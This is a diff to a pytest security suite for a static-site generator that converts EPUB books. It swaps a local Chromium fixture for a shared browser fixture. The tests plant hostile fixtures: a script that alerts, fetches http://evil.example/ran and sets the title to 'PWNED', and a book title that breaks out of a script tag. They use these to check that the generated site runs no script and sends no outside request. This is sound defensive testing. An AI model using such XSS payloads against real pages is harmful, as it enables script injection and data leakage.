@@ -9,7 +9,6 @@ from pathlib import Path
 
 import pytest
 from epubkit import make_epub, xhtml
-from playwright.sync_api import sync_playwright
 
 from understory_cli.analyze.offline import analyze_offline
 from understory_cli.ingest import ingest
@@ -19,9 +18,6 @@ from understory_cli.static_site.bookstyle import scope_css
 from understory_cli.store import open_store
 from understory_cli.wiki.extractive import compose_extractive
 
-CHROMIUM = "/usr/bin/chromium"
-ARGS = ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
-        "--disable-component-update", "--no-first-run"]
 EVIL = "http://evil.example"
 JS = "alert(1);fetch('http://evil.example/ran');document.title='PWNED'"
 TITLE = "The Lamp</script><script>alert(1)</script></style><b>\u2028\u2029 & Co"
@@ -147,14 +143,6 @@ def test_no_script_or_outside_url_is_left_in_any_file(hostile_site):
     assert book_files and {p.suffix for p in book_files} <= {".svg", ".css"}  # no .html, no .js from the book
 
 
-@pytest.fixture(scope="module")
-def chromium():
-    assert Path(CHROMIUM).is_file(), f"{CHROMIUM} missing: apt-get install -y chromium"
-    with sync_playwright() as p:
-        browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
-        yield browser
-        browser.close()
-
 
 def visit(browser, root: Path, files: list[Path]) -> tuple[list[str], list[str], list[str]]:
     """Open each file directly with every request intercepted: (dialogs, requests that
@@ -188,21 +176,21 @@ def visit(browser, root: Path, files: list[Path]) -> tuple[list[str], list[str],
     return dialogs, leaked, titles
 
 
-def test_the_harness_sees_a_script_and_a_request(chromium, tmp_path):
+def test_the_harness_sees_a_script_and_a_request(browser, tmp_path):
     """The check below can fail: an unsanitized page is caught by it."""
     evil = tmp_path / "evil.html"
     evil.write_text(f"<title>t</title><script>{JS}</script><img src='{EVIL}/img.png'>", encoding="utf-8")
     svg = tmp_path / "evil.svg"
     svg.write_text(SVG, encoding="utf-8")
-    dialogs, leaked, titles = visit(chromium, tmp_path, [evil, svg])
+    dialogs, leaked, titles = visit(browser, tmp_path, [evil, svg])
     assert dialogs and any("evil.example" in u for u in leaked) and "PWNED" in titles
 
 
-def test_in_chromium_no_script_runs_and_no_request_leaves(hostile_site, chromium):
+def test_in_chromium_no_script_runs_and_no_request_leaves(hostile_site, browser):
     out = hostile_site["out"].resolve()
     files = sorted(p for p in out.rglob("*") if p.is_file() and p.name != ".understory-site")
     assert any(p.suffix == ".svg" and "book" in p.parts for p in files) and len(files) > 20
-    dialogs, leaked, titles = visit(chromium, out, files)
+    dialogs, leaked, titles = visit(browser, out, files)
     assert dialogs == []
     assert leaked == []
     assert "PWNED" not in titles
